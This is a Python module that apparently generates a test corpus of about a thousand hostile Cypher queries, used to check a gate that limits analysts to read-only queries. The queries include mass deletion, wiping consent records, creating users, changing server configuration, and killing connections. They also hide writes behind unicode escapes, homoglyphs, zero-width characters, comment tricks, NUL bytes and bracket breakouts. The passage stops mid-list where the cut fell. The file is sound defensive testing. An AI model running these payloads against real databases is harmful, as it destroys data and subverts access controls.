"""A thousand texts with which somebody tries to do harm by free Cypher, by construction from shapes written by hand."""

import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from enum import Enum
from functools import cache, reduce
from itertools import count

HOW_MANY = 1_000


class Aim(Enum):
    """What somebody is after who types such a text.

    What is to LOAD may run if it cannot be told beforehand, but ends within the limits and hurts nobody else. All the
    others are refused, by the gate or because they are no Cypher.
    """

    WRITE = "to change the graph or its schema"
    PROCEDURE = "to call a procedure that is not for analysts"
    FUNCTION = "to call a function that is not for analysts"
    ADMIN = "to see or change how the server is run"
    FILE = "to have the server read a file or an address"
    SEVERAL = "to send more than one statement, or one that is read in another way than ours"
    LOAD = "to use up time or memory, of the server or of whoever reads the answer"


@dataclass(frozen=True)
class Shape:
    """One thing that somebody attempts, with the texts that attempt it.

    ``@label``, ``@kind`` and ``@many`` in a text are filled in. Its one column is called x, so that it can be put into
    others; its keywords, and nothing else, are in capital letters.
    """

    name: str
    aim: Aim
    texts: tuple[str, ...]


@dataclass(frozen=True)
class Query:
    """One text, with the name of the shape that it has."""

    shape: str
    aim: Aim
    text: str


def _row(piece: str, number: int, between: str = " ") -> str:
    """Return *piece* so many times, # in it being which of them it is."""
    return between.join(piece.replace("#", str(i)) for i in range(number))


def _within(opening: str, middle: str, closing: str, depth: int) -> str:
    """Return *middle* that deep within brackets."""
    return opening * depth + middle + closing * depth


_WRITES = (
    Shape(
        "create a node",
        Aim.WRITE,
        (
            "CREATE (n:@label {key: 'evil'})",
            "CREATE (n:@label {key: 'evil', handle: 'ada', score: 100.0}) RETURN n.key AS x",
            "CREATE p = (a:Account {key: 'evil'})-[:@kind {at: 0}]->(b:Account) RETURN length(p) AS x",
            "CREATE (n IS @label) FINISH",
            "CREATE ()",
        ),
    ),
    Shape(
        "create with the words that GQL has for it",
        Aim.WRITE,
        (
            "INSERT (n:@label {key: 'evil'})",
            "MATCH (a:@label) WITH a LIMIT 1 INSERT (a)-[:@kind {at: 0}]->(:Account {key: 'evil'}) RETURN 1 AS x",
            "MATCH (a:Listed) NODETACH DELETE a",
        ),
    ),
    Shape(
        "make up acts between people",
        Aim.WRITE,
        (
            "MATCH (a:Listed), (b:Counted) CREATE (a)-[:@kind {at: 1767225600, weight: 1000000.0}]->(b)",
            "MATCH (a:Listed)-[r:@kind]->(b:Listed) CREATE (b)-[s:@kind]->(a) SET s = properties(r) RETURN 1 AS x",
            "MATCH (a:Account) WITH a LIMIT 2 CREATE (a)-[:HAS]->(:Person {scores: [100.0]}) RETURN 1 AS x",
        ),
    ),
    Shape(
        "merge what is not there yet",
        Aim.WRITE,
        (
            "MERGE (n:@label {key: 'evil'}) RETURN n.key AS x",
            "MERGE (n:@label {key: 'evil'}) ON CREATE SET n.score = 100 ON MATCH SET n.score = 99 RETURN n.score AS x",
            "MATCH (a:Listed), (b:Listed) MERGE (a)-[r:@kind {at: 0}]->(b) RETURN count(r) AS x",
            "MATCH (a:Listed), (b:Listed) MERGE (a)-[:@kind]-(b)",
        ),
    ),
    Shape(
        "set a property of everybody",
        Aim.WRITE,
        (
            "MATCH (n:@label) SET n.score = 100.0",
            "MATCH (n:@label) SET n['sco' + 're'] = 100.0 RETURN count(n) AS x",
            "MATCH (n:@label) SET n += {score: 100.0, name: 'evil'} RETURN n.key AS x",
            "MATCH (n:@label) SET n = {} RETURN 1 AS x LIMIT 1",
            "MATCH (a:Listed), (b:Account) SET b = properties(a)",
            "MATCH (n:Listed) SET (CASE WHEN n.score > 0 THEN n END).score = 0.0",
            "MATCH ()-[r:@kind]->() SET r.weight = 0.0, r.at = null RETURN count(r) AS x",
            "MATCH (n:@label) SET n = $everything",
        ),
    ),
    Shape(
        "name somebody who did not agree",
        Aim.WRITE,
        (
            "MATCH (n:Account) SET n:Listed RETURN n.key AS x",
            "MATCH (n:Account) SET n:Listed:Counted",
            "MATCH (n:Account) SET n IS Listed",
            "MATCH (n:Account) SET n:$('Lis' + 'ted') RETURN count(n) AS x",
            "MATCH (n:Account) SET n:$(['Listed', 'Counted'])",
            "MATCH (n:Account) WHERE n.handle IS NULL SET n.handle = n.key, n:Listed",
        ),
    ),
    Shape(
        "take labels and properties away",
        Aim.WRITE,
        (
            "MATCH (n:@label) REMOVE n:@label",
            "MATCH (n:@label) REMOVE n.key, n.name RETURN count(n) AS x",
            "MATCH (n:@label) REMOVE n['key']",
            "MATCH (n:@label) REMOVE n:$(labels(n)) RETURN 1 AS x",
            "MATCH (n:Account) REMOVE n IS Listed",
            "MATCH ()-[r:@kind]->() REMOVE r.weight",
        ),
    ),
    Shape(
        "delete nodes and acts",
        Aim.WRITE,
        (
            "MATCH (n) DETACH DELETE n",
            "MATCH (n:@label) DELETE n",
            "MATCH ()-[r:@kind]->() DELETE r RETURN count(r) AS x",
            "MATCH p = (:Account)-[:@kind]->(:Account) DELETE p",
            "MATCH (n:@label) WITH collect(n) AS all_of_them DETACH DELETE all_of_them[0] RETURN 1 AS x",
            "MATCH (n:@label) WITH {first: n} AS held DETACH DELETE held.first",
            "OPTIONAL MATCH (n:@label) DETACH DELETE n RETURN 1 AS x",
        ),
    ),
    Shape(
        "wipe what protects people",
        Aim.WRITE,
        (
            "MATCH (c:Consent) SET c.withdrawn_at = null, c.until = null RETURN count(c) AS x",
            "MATCH (s:Suppression) DETACH DELETE s",
            "MATCH (s:State {name: 'state'}) SET s.rating = 0 RETURN s.rating AS x",
            "MATCH (e:Entry) DETACH DELETE e RETURN 1 AS x",
            "MATCH (o:OffLists) DELETE o",
        ),
    ),
    Shape(
        "write in a FOREACH",
        Aim.WRITE,
        (
            "FOREACH (i IN range(1, 10) | CREATE (:@label {key: toString(i)}))",
            "MATCH (n:@label) WITH collect(n) AS found FOREACH (n IN found | SET n.score = 0.0) RETURN 1 AS x",
            "MATCH p = (:Listed)-->(:Listed) FOREACH (n IN nodes(p) | FOREACH (r IN relationships(p) | DELETE r))",
            "FOREACH (i IN [1] | MERGE (n:@label {key: 'evil'}) ON CREATE SET n.at = i REMOVE n.name)",
        ),
    ),
    Shape(
        "write only if something holds that seems not to",
        Aim.WRITE,
        (
            "FOREACH (i IN CASE WHEN 1 > 2 THEN [1] ELSE [] END | CREATE (:@label))",
            "MATCH (n:@label) WHERE false SET n.score = 0.0 RETURN n.key AS x",
            "MATCH (n:NoSuchLabel) DETACH DELETE n RETURN count(*) AS x",
            "UNWIND [] AS i CREATE (:@label {key: i}) RETURN i AS x",
            "MATCH (n:@label) WITH n LIMIT 0 SET n.score = 0.0 RETURN 1 AS x",
            "MATCH (n:@label) SET n.score = n.score RETURN n.score AS x LIMIT 0",
        ),
    ),
    Shape(
        "write in a subquery",
        Aim.WRITE,
        (
            "CALL () { CREATE (:@label {key: 'evil'}) } RETURN 1 AS x",
            "MATCH (n:@label) CALL (n) { SET n.score = 100.0 RETURN n.key AS k } RETURN k AS x",
            "MATCH (n:@label) CALL (*) { DETACH DELETE n } RETURN count(*) AS x",
            "MATCH (n:@label) CALL { WITH n REMOVE n.key } RETURN 1 AS x",
            "CALL { CALL { CALL { CREATE (m:@label) RETURN m } RETURN m } RETURN m } RETURN m.key AS x",
            "MATCH (n:@label) OPTIONAL CALL (n) { MERGE (n)-[r:@kind]->(n) RETURN r } RETURN count(r) AS x",
        ),
    ),
    Shape(
        "write in transactions of its own",
        Aim.WRITE,
        (
            "MATCH (n:@label) CALL (n) { DETACH DELETE n } IN TRANSACTIONS",
            "MATCH (n:@label) CALL { WITH n SET n.score = 1 } IN TRANSACTIONS OF 10 ROWS ON ERROR CONTINUE",
            "UNWIND range(1, 9) AS i CALL (i) { CREATE (:@label {key: i}) } IN 4 CONCURRENT TRANSACTIONS OF 1 ROW",
            "MATCH (n) CALL (n) { SET n.x = 1 } IN TRANSACTIONS ON ERROR BREAK REPORT STATUS AS s RETURN s AS x",
        ),
    ),
    Shape(
        "write where only a question may stand",
        Aim.WRITE,
        (
            "RETURN EXISTS { CREATE (n:@label) } AS x",
            "MATCH (a:@label) WHERE EXISTS { MATCH (a) SET a.score = 0.0 RETURN a } RETURN a.key AS x",
            "RETURN COUNT { MERGE (n:@label {key: 'evil'}) RETURN n } AS x",
            "RETURN COLLECT { CREATE (n:@label) RETURN n.key } AS x",
            "MATCH (a:@label) RETURN [i IN [1] | COLLECT { MATCH (a) DETACH DELETE a RETURN 1 }] AS x",
            "MATCH (a:@label) RETURN COUNT { CALL (a) { SET a.score = 1 RETURN a AS b } RETURN b } AS x",
        ),
    ),
    Shape(
        "write in the second half of a union",
        Aim.WRITE,
        (
            "MATCH (a:Listed) RETURN a.key AS x UNION CREATE (n:@label {key: 'evil'}) RETURN n.key AS x",
            "RETURN '' AS x UNION ALL MATCH (n:@label) SET n.score = 0.0 RETURN n.key AS x",
            "RETURN 1 AS x UNION RETURN 2 AS x UNION MATCH (n) DETACH DELETE n RETURN 3 AS x",
            "CALL () { RETURN 1 AS y UNION MERGE (n:@label) RETURN 2 AS y } RETURN y AS x",
        ),
    ),
    Shape(
        "write at the end of a long and harmless way",
        Aim.WRITE,
        (
            "MATCH (a:Listed) " + _row("WITH a", 300) + " SET a.score = 0.0 RETURN a.key AS x",
            "MATCH (a:Listed) WHERE " + _row("a.score <> #", 500, " AND ") + " DETACH DELETE a",
            _row("MATCH (a#:Listed {key: '#'})", 12) + " CREATE (a0)-[:@kind]->(a11) RETURN 1 AS x",
            "MATCH (a:Listed) RETURN a.key AS x "
            + _row("UNION RETURN '#' AS x", 100)
            + " UNION CREATE (n) RETURN '' AS x",
        ),
    ),
    Shape(
        "make an index",
        Aim.WRITE,
        (
            "CREATE INDEX evil FOR (n:@label) ON (n.score)",
            "CREATE TEXT INDEX evil IF NOT EXISTS FOR (n:@label) ON (n.handle)",
            "CREATE FULLTEXT INDEX evil FOR (n:Account|Person) ON EACH [n.handle, n.name]",
            "CREATE LOOKUP INDEX evil FOR (n) ON EACH labels(n)",
            "CREATE VECTOR INDEX evil FOR (n:@label) ON n.v OPTIONS {indexConfig: {`vector.dimensions`: 4096}}",
            "CREATE POINT INDEX evil FOR ()-[r:@kind]-() ON (r.place)",
        ),
    ),
    Shape(
        "make a constraint",
        Aim.WRITE,
        (
            "CREATE CONSTRAINT evil FOR (n:@label) REQUIRE n.score IS UNIQUE",
            "CREATE CONSTRAINT evil IF NOT EXISTS FOR ()-[r:@kind]-() REQUIRE r.at IS RELATIONSHIP UNIQUE",
            "CREATE CONSTRAINT evil FOR (n:@label) REQUIRE n.score IS :: STRING",
            "CREATE CONSTRAINT evil FOR (n:@label) REQUIRE (n.network, n.handle) IS NODE KEY",
        ),
    ),
    Shape(
        "drop what finds people and keeps them apart",
        Aim.WRITE,
        (
            "DROP INDEX people_names",
            "DROP INDEX people_names IF EXISTS",
            "DROP CONSTRAINT account_key",
            "DROP CONSTRAINT account_key IF EXISTS",
            "DROP INDEX $name",
        ),
    ),
    Shape(
        "write with words in escapes",
        Aim.WRITE,
        (
            r"\u0043REATE (n:@label)",
            r"MATCH (n:@label) \u0053\u0045\u0054 n.score = 0.0",
            r"MATCH (n) DET\u0041CH DELET\u0045 n",
            r"MERGE\u0020(n:@label)\u000aRETURN\u00091 AS x",
            r"\u004d\u0045\u0052\u0047\u0045\u0028\u006e\u0029",
            r"MATCH (n) \\u0044ELETE n",
            r"CREATE (n:\u0060Listed\u0060)",
            r"\U00000043REATE (n)",
            r"\uuu0043REATE (n)",
            r"\u43REATE (n)",
        ),
    ),
    Shape(
        "end a comment or a text by an escape",
        Aim.WRITE,
        (
            r"RETURN 1 AS x // \u000a UNION MATCH (n) DETACH DELETE n RETURN 2 AS x",
            r"MATCH (n:@label) /* \u002a\u002f SET n.score = 0.0 /* */",
            r"MATCH (n:@label {key: '\u0027}) SET n.score = 0.0 // '}) RETURN n",
            r"MATCH (n:@label) WHERE n.key = '\\u0027' DETACH DELETE n //' RETURN n",
            r"MATCH (n:`@label\u0060) DELETE n //`) RETURN n",
            r"MATCH (n:@label) \u002f\u002a RETURN n AS x \u002a\u002f DETACH DELETE n",
            r"MATCH (n:@label) \u002f/ RETURN n.key AS x" + "\nDETACH DELETE n",
            r"MATCH (n:@label) WHERE n.key = 'a\\' DETACH DELETE n //' RETURN n",
        ),
    ),
    Shape(
        "hide a word with signs of no width",
        Aim.WRITE,
        (
            "CRE\u200bATE (n:@label)",
            "MATCH (n) DETACH\u200b DELETE\u200b n",
            "\ufeffCREATE (n:@label)",
            "MATCH (n:@label) S\u00adET n.score = 0.0",
            "MATCH (n:@label)\u2060SET n.score = 0.0",
            "ME\u200dRGE (n:@label)",
            "MATCH (n:@label) SET n.sc\u200bore = 0.0",
            "CREATE\ufe0f (n:@label)",
        ),
    ),
    Shape(
        "write with letters that look or fold alike",
        Aim.WRITE,
        (
            "\uff23\uff32\uff25\uff21\uff34\uff25 (n:@label)",
            "\u0421RE\u0410\u0422\u0415 (n:@label)",
            "MATCH (n) DETACH D\u0395L\u0395T\u0395 n",
            "MATCH (n:@label) \u017fET n.score = 0.0",
            "CREATE \u0131NDEX evil FOR (n:@label) ON (n.score)",
            "MATCH (n:@label) WHERE n.score > 1 RETURN n.key A\u017f x UNION MATCH (n) DELETE n RETURN 1 A\u017f x",
            "MATCH \uff08n\uff09 DETACH DELETE n",
            "\U0001d402\U0001d411\U0001d404\U0001d400\U0001d413\U0001d404 (n)",
            "C\u0301REATE (n)",
        ),
    ),
    Shape(
        "draw arrows that are no hyphens",
        Aim.WRITE,
        (
            "MATCH (a:Listed), (b:Listed) CREATE (a)\u2014[:@kind]\u2014\u27e9(b)",
            "CREATE (a:Account)\u2013[:@kind]\u2013>(b:Account)",
            "MATCH (a:Listed), (b:Listed) MERGE (a)\u3008\u2010[r:@kind]\u2010(b) RETURN count(r) AS x",
            "MATCH (a:Listed)\u00ad[r]\u00ad\uff1e(b) DELETE r",
        ),
    ),
    Shape(
        "part words by white space that is not a blank",
        Aim.WRITE,
        (
            "CREATE\u00a0(n:@label)",
            "MATCH\u3000(n:@label)\u2003DETACH\u2009DELETE\u202fn",
            "MATCH (n)\u2028DETACH DELETE n",
            "MERGE\u000b(n:@label)\u000cRETURN\u001c1\u001dAS\u001ex",
            "MATCH (n)\u0085DELETE n",
            "MATCH (n)\u180eDELETE n",
            "MATCH (n:@label)\u1680SET\u205fn.score\u2007=\u20070.0",
        ),
    ),
    Shape(
        "show another text than is run",
        Aim.WRITE,
        (
            "RETURN 1 AS x /* \u202e */ UNION CREATE (n) RETURN 2 AS x /* \u202c */",
            "MATCH (n:@label) /*\u2066*/ DETACH DELETE n /*\u2069 RETURN n */",
            "MATCH (n:@label) RETURN n.key AS x //" + " " * 400 + "\nUNION CREATE (m) RETURN '' AS x",
            "RETURN 1 AS x" + "\n" * 300 + "UNION MATCH (n) DETACH DELETE n RETURN 2 AS x",
            "RETURN 1 AS x\u2067 UNION CREATE (n) RETURN 2 AS x",
            "MATCH (n:@label) RETURN n.key AS x // \b\b\b\b\x1b[2K\rUNION CREATE (m) RETURN '' AS x",
        ),
    ),
    Shape(
        "have a comment end where only the server sees it",
        Aim.WRITE,
        (
            "RETURN 1 AS x // \rUNION CREATE (n) RETURN 2 AS x",
            "MATCH (n:@label) //\r\nDETACH DELETE n",
            "MATCH (n:@label) // RETURN n \x0b\nDETACH DELETE n",
            "MATCH (n:@label) /* /* */ DETACH DELETE n /* */ /* */",
            "MATCH (n:@label) /* // */ DETACH DELETE n // */",
            "MATCH (n:@label) // /*\nDETACH DELETE n // */",
            "MATCH (n:@label) /**/ /*/ */ DETACH DELETE n /*/ RETURN n /*/",
            "MATCH (n:@label {key: '//'}) SET n.name = '/*' // */",
            'MATCH (n:@label) WHERE n.key = "/*" DETACH DELETE n //*/',
            "MATCH (n:`/*`) DETACH DELETE n //`*/ RETURN n",
        ),
    ),
    Shape(
        "have a comment swallow what a gate adds",
        Aim.WRITE,
        (
            "MATCH (n:@label) SET n.score = 0.0 RETURN n.key AS x //",
            "MATCH (n:@label) DETACH DELETE n /*",
            "CREATE (n:@label) RETURN n.key AS x --",
            "MATCH (n:@label) DELETE n RETURN '",
            "MATCH (n:@label) SET n.score = 0.0 RETURN n AS `",
        ),
    ),
    Shape(
        "break out of brackets that a gate may put around",
        Aim.WRITE,
        (
            "RETURN 1 AS x } CREATE (n:@label) WITH n CALL () { RETURN 2 AS y",
            "MATCH (n:@label) RETURN n.key AS x } MATCH (n) DETACH DELETE n //",
            "1 AS x } CALL () { CREATE (n) } RETURN 1 AS y //",
            "} CREATE (n:@label) //",
            ") } MATCH (n) SET n.score = 0.0 //",
            "RETURN 1 AS x LIMIT 1 UNION CREATE (n) RETURN 2 AS x LIMIT",
        ),
    ),
    Shape(
        "end the text early for whoever counts on NUL",
        Aim.WRITE,
        (
            "RETURN 1 AS x\x00 UNION CREATE (n) RETURN 2 AS x",
            "CRE\x00ATE (n:@label)",
            "\x00MATCH (n) DETACH DELETE n",
            "MATCH (n:@label)\x00DETACH DELETE n",
            r"RETURN 1 AS x \u0000 UNION CREATE (n) RETURN 2 AS x",
            "MATCH (n:@label) SET n.name = '\x00' RETURN 1 AS x",
        ),
    ),
    Shape(
        "leave a text or a comment open",
        Aim.WRITE,
        (
            "MATCH (n) WHERE n.key = ' DETACH DELETE n",
            "MATCH (n) WHERE n.key = \"' DETACH DELETE n RETURN n",
            "/* MATCH (n) DETACH DELETE n",
            "CREATE (n:`Listed)",
            "MATCH (n:@label) WHERE n.key = 'a\\' SET n.score = 0.0 RETURN 1 AS x",
            "*/ CREATE (n:@label) /*",
            "'; CREATE (n:@label) //",
            "MATCH (n:@label) WHERE n.key = 'it''s' DETACH DELETE n",
        ),
    ),
    Shape(
        "put backticks within backticks",
        Aim.WRITE,
        (
            "MATCH (n:`a``b`) DETACH DELETE n",
            "MATCH (`n``) RETURN n //`) DETACH DELETE `n``) RETURN n //`",
            "CREATE (`CREATE`:`MATCH (n) RETURN n`)",
            "MATCH (`;`:@label) SET `;`.`score` = 0.0 RETURN 1 AS x",
            "CREATE (n:````)",
            "CREATE (``:@label)",
            "MATCH (n:`" + "a``" * 500 + "`) DELETE n",
        ),
    ),
    Shape(
        "write in a text that is longer than anybody reads",
        Aim.WRITE,
        (
            "MATCH (n:@label) /* " + "harmless " * 3_000 + "*/ DETACH DELETE n",
            "MATCH (n:@label)" + " " * 20_000 + "SET n.score = 0.0",
            "MATCH (n:@label) WHERE n.key <> '" + "a" * 30_000 + "' DETACH DELETE n",
            "//" + "-" * 12_000 + "\nCREATE (n:@label)",
            "CREATE (n:`" + "A" * 15_000 + "`)",
            "CREATE " + _row("(n#:Account {key: '#'})", 800, ", "),
        ),
    ),
    Shape(
        "write with signs that are no text",
        Aim.WRITE,
        (
            "CREATE (n:@label {name: '\ud800'})",
            r"CREATE (n:@label {name: '\ud800\ud800'}) RETURN n.name AS x",
            "CREATE (n:`\ufffe\uffff`)",
            "MATCH (n:@label) SET n.name = '\udc00\ud800'",
        ),
    ),
)

_PROCEDURES = (
    Shape(
        "drop a projection that others use",
        Aim.PROCEDURE,
        (
            "CALL gds.graph.drop('town')",
            "CALL gds.graph.drop('town', false) YIELD graphName RETURN graphName AS x",
            "CALL gds.graph.list() YIELD graphName CALL gds.graph.drop(graphName) YIELD nodeCount AS n RETURN n AS x",
            "CALL gds.graph.drop(['a', 'b'], false, '') YIELD graphName AS x",
            "CALL gds.graph.nodeProperties.drop('town', ['score'])",
            "CALL gds.graph.relationships.drop('town', '@kind') YIELD graphName RETURN graphName AS x",
        ),
    ),
    Shape(
        "project the graph into the server's memory",
        Aim.PROCEDURE,
        (
            "CALL gds.graph.project('evil', '*', '*')",
            "CALL gds.graph.project('evil', '@label', {@kind: {}}) YIELD nodeCount AS n RETURN n AS x",
            "CALL gds.graph.project.cypher('evil', 'MATCH (n) RETURN id(n) AS id', 'MATCH (a)--(b) RETURN 1')",
            "UNWIND range(1, 1000) AS i CALL gds.graph.project('g' + i, '*', '*') YIELD nodeCount AS n RETURN n AS x",
            "CALL gds.graph.generate('evil', 100000000, 100) YIELD nodes RETURN nodes AS x",
            "CALL gds.graph.filter('evil', 'town', '*', '*') YIELD nodeCount RETURN nodeCount AS x",
            "CALL gds.graph.sample.rwr('evil', 'town', {samplingRatio: 1.0}) YIELD nodeCount AS n RETURN n AS x",
        ),
    ),
    Shape(
        "write by an algorithm",
        Aim.PROCEDURE,
        (
            "CALL gds.pageRank.write('town', {writeProperty: 'score'})",
            "CALL gds.louvain.write('town', {writeProperty: 'circle'}) YIELD communityCount AS n RETURN n AS x",
            "CALL gds.graph.nodeProperties.write('town', ['score'], ['*'])",
            "CALL gds.graph.nodeLabel.write('town', 'Listed', {nodeFilter: 'true'})",
            "CALL gds.graph.relationship.write('town', 'LIKED') YIELD graphName RETURN graphName AS x",
            "CALL gds.knn.write('town', {writeRelationshipType: 'LIKED', writeProperty: 'w', nodeProperties: ['a']})",
        ),
    ),
    Shape(
        "change a projection by an algorithm",
        Aim.PROCEDURE,
        (
            "CALL gds.pageRank.mutate('town', {mutateProperty: 'score'})",
            "CALL gds.degree.mutate('town', {mutateProperty: 'y'}) YIELD nodePropertiesWritten AS n RETURN n AS x",
            "CALL gds.leiden.mutate('town', {mutateProperty: 'circle'}) YIELD communityCount AS n RETURN n AS x",
            "CALL gds.graph.nodeLabel.mutate('town', 'Listed', {nodeFilter: 'true'})",
            "CALL gds.collapsePath.mutate('town', {pathTemplates: [['LIKED']], mutateRelationshipType: 'EVIL'})",
        ),
    ),
    Shape(
        "read by an algorithm, for as long as it takes",
        Aim.PROCEDURE,
        (
            "CALL gds.pageRank.stream('town', {maxIterations: 1000000000}) YIELD nodeId, score RETURN score AS x",
            "CALL gds.allShortestPaths.stream('town') YIELD distance AS d RETURN d AS x",
            "CALL gds.betweenness.stats('town', {}) YIELD computeMillis RETURN computeMillis AS x",
            "CALL gds.nodeSimilarity.stream('town', {topK: 1000000}) YIELD similarity RETURN similarity AS x",
            "CALL gds.pageRank.stream.estimate('town', {})",
        ),
    ),
    Shape(
        "read out of a projection what free Cypher does not show",
        Aim.PROCEDURE,
        (
            "CALL gds.graph.nodeProperty.stream('town', 'standing') YIELD nodeId, propertyValue AS v RETURN v AS x",
            "CALL gds.graph.nodeProperties.stream('town', ['score'])",
            "CALL gds.graph.relationships.stream('town', ['*']) YIELD sourceNodeId RETURN sourceNodeId AS x",
            "CALL gds.graph.list()",
            "CALL gds.graph.exists('town') YIELD exists RETURN exists AS x",
        ),
    ),
    Shape(
        "put projections on disk and take them back",
        Aim.PROCEDURE,
        (
            "CALL gds.graph.export('town', {dbName: 'evil'})",
            "CALL gds.graph.export.csv('town', {exportName: '../../evil'}) YIELD graphName RETURN graphName AS x",
            "CALL gds.backup({})",
            "CALL gds.restore({})",
            "CALL gds.model.store('evil') YIELD modelName RETURN modelName AS x",
        ),
    ),
    Shape(
        "keep models and pipelines",
        Aim.PROCEDURE,
        (
            "CALL gds.model.drop('m', false) YIELD modelName RETURN modelName AS x",
            "CALL gds.beta.pipeline.nodeClassification.create('evil')",
            "CALL gds.pipeline.drop('evil') YIELD pipelineName RETURN pipelineName AS x",
            "CALL gds.beta.graphSage.train('town', {modelName: 'evil', featureProperties: ['score']})",
        ),
    ),
    Shape(
        "change the settings of GDS or see what it does",
        Aim.PROCEDURE,
        (
            "CALL gds.config.limits.set('concurrency', 0)",
            "CALL gds.config.defaults.set('maxIterations', 1000000000, '')",
            "CALL gds.listProgress() YIELD jobId, progress RETURN progress AS x",
            "CALL gds.debug.sysInfo() YIELD key, value RETURN value AS x",
            "CALL gds.systemMonitor() YIELD freeHeap RETURN freeHeap AS x",
            "CALL gds.userLog()",
            "CALL gds.list() YIELD name RETURN name AS x",
            "CALL gds.memory.list()",
            "CALL gds.version()",
            "CALL gds.license.state()",
        ),
    ),
    Shape(
        "read or change how the server is set up",
        Aim.PROCEDURE,
        (
            "CALL dbms.listConfig()",
            "CALL dbms.listConfig('memory') YIELD name, value RETURN name + '=' + value AS x",
            "CALL dbms.setConfigValue('db.transaction.timeout', '0')",
            "CALL dbms.checkConfigValue('db.transaction.timeout', '0') YIELD valid RETURN valid AS x",
            "CALL dbms.queryJmx('*:*') YIELD name, attributes RETURN attributes AS x",
            "CALL dbms.upgrade() YIELD status RETURN status AS x",
            "CALL dbms.info()",
            "CALL dbms.listCapabilities()",
            "CALL dbms.cluster.routing.getRoutingTable({}) YIELD servers RETURN servers AS x",
        ),
    ),
    Shape(
        "end what others do",
        Aim.PROCEDURE,
        (
            "CALL dbms.listConnections() YIELD connectionId AS c CALL dbms.killConnection(c) YIELD message AS x",
            "CALL dbms.killConnections(['bolt-1', 'bolt-2'])",
            "CALL dbms.killQueries(['query-1'])",
            "CALL dbms.killTransaction('neo4j-transaction-1') YIELD message RETURN message AS x",
            "CALL dbms.listActiveLocks('query-1')",
            "CALL db.listLocks() YIELD mode RETURN mode AS x",
            "CALL dbms.quarantineDatabase('neo4j', true, 'evil') YIELD result RETURN result AS x",
        ),
    ),
    Shape(
        "change who may do what",
        Aim.PROCEDURE,
        (
            "CALL dbms.security.createUser('evil', 'evil-evil', false)",
            "CALL dbms.security.changePassword('evil')",
            "CALL dbms.security.listUsers() YIELD username RETURN username AS x",
            "CALL dbms.showCurrentUser() YIELD username RETURN username AS x",
            "CALL dbms.security.clearAuthCache()",
            "CALL dbms.security.reloadTLS('bolt') YIELD scope RETURN scope AS x",
        ),
    ),
    Shape(
        "wait for indexes or count them anew",
        Aim.PROCEDURE,
        (
            "CALL db.awaitIndexes(2147483647)",
            "CALL db.awaitIndex('people_names', 1000000000)",
            "CALL db.resampleIndex('people_names')",
            "CALL db.resampleOutdatedIndexes()",
            "CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()",
            "UNWIND range(1, 100000) AS i CALL db.resampleOutdatedIndexes() RETURN i AS x",
        ),
    ),
    Shape(
        "throw away plans that everybody uses",
        Aim.PROCEDURE,
        (
            "CALL db.clearQueryCaches()",
            "CALL db.clearQueryCaches() YIELD value RETURN value AS x",
            "UNWIND range(1, 1000000) AS i CALL db.clearQueryCaches() YIELD value RETURN count(value) AS x",
            "CALL db.prepareForReplanning(1000000)",
            "CALL db.checkpoint() YIELD success RETURN success AS x",
        ),
    ),
    Shape(
        "collect what others ask",
        Aim.PROCEDURE,
        (
            "CALL db.stats.collect('QUERIES', {durationSeconds: 1000000}) YIELD success RETURN success AS x",
            "CALL db.stats.retrieve('QUERIES') YIELD data RETURN data AS x",
            "CALL db.stats.retrieveAllAnonymized('evil') YIELD data RETURN data AS x",
            "CALL db.stats.clear('QUERIES')",
            "CALL db.stats.stop('QUERIES')",
        ),
    ),
    Shape(
        "make tokens and vectors",
        Aim.PROCEDURE,
        (
            "CALL db.createLabel('Evil')",
            "CALL db.createProperty('evil')",
            "CALL db.createRelationshipType('EVIL')",
            "MATCH (n:@label) CALL db.create.setNodeVectorProperty(n, 'v', [1.0, 2.0]) RETURN count(n) AS x",
            "MATCH ()-[r:@kind]->() CALL db.create.setRelationshipVectorProperty(r, 'v', [1.0]) RETURN count(r) AS x",
            "CALL db.index.vector.createNodeIndex('evil', 'Account', 'v', 4, 'cosine')",
            "CALL db.index.vector.queryNodes('evil', 1000000, [1.0]) YIELD node, score RETURN score AS x",
        ),
    ),
    Shape(
        "write what it likes into the log of the server",
        Aim.PROCEDURE,
        (
            "CALL tx.setMetaData({app: 'town'})",
            "CALL tx.setMetaData({text: reduce(s = 'a', i IN range(1, 20) | s + s)}) RETURN 1 AS x",
            "CALL tx.getMetaData() YIELD metadata RETURN metadata AS x",
        ),
    ),
    Shape(
        "call in a subquery",
        Aim.PROCEDURE,
        (
            "CALL () { CALL gds.graph.drop('town', false) YIELD graphName RETURN graphName } RETURN graphName AS x",
            "MATCH (s:State) CALL (s) { CALL db.clearQueryCaches() YIELD value RETURN value } RETURN value AS x",
            "CALL { CALL dbms.listConfig() YIELD name, value RETURN value } RETURN value AS x",
            "CALL () { CALL () { CALL gds.graph.list() YIELD graphName AS g RETURN g } RETURN g } RETURN g AS x",
        ),
    ),
    Shape(
        "call where a question stands",
        Aim.PROCEDURE,
        (
            "RETURN EXISTS { CALL gds.graph.drop('town', false) YIELD graphName RETURN graphName } AS x",
            "RETURN COUNT { CALL db.clearQueryCaches() YIELD value RETURN value } AS x",
            "RETURN COLLECT { CALL dbms.listConfig() YIELD value RETURN value } AS x",
            "MATCH (a:@label) WHERE EXISTS { CALL gds.graph.list() YIELD graphName RETURN graphName } RETURN 1 AS x",
            "MATCH (a) WHERE NOT EXISTS { CALL gds.list() YIELD name WHERE name = a.key RETURN name } RETURN 1 AS x",
        ),
    ),
    Shape(
        "call in a question that stands within a value, where the plan does not show it",
        Aim.PROCEDURE,
        (
            "RETURN [i IN [1] | COLLECT { CALL gds.graph.drop('town', false) YIELD graphName AS g RETURN g }] AS x",
            "MATCH (a) RETURN CASE a.at WHEN 0 THEN COUNT { CALL gds.graph.list() YIELD nodeCount RETURN 1 } END AS x",
            "RETURN reduce(n = 0, i IN [1, 2] | n + COUNT { CALL gds.graph.list() YIELD graphName RETURN i }) AS x",
            "RETURN any(i IN [1] WHERE EXISTS { CALL gds.graph.drop('g', false) YIELD graphName AS g RETURN g }) AS x",
            "MATCH (a) RETURN [(a)-->(b) WHERE EXISTS { CALL gds.graph.list() YIELD nodeCount RETURN 1 } | b] AS x",
            "RETURN {a: [i IN [1] | COLLECT { CALL gds.debug.sysInfo() YIELD value RETURN value }]} AS x",
            "MATCH (a)-[*1..2 {at: COUNT { CALL db.clearQueryCaches() YIELD value RETURN 1 }}]->(b) RETURN 1 AS x",
            "MATCH (a) RETURN a AS x ORDER BY CASE a.at WHEN 1 THEN COUNT { CALL gds.list() YIELD name RETURN 1 } END",
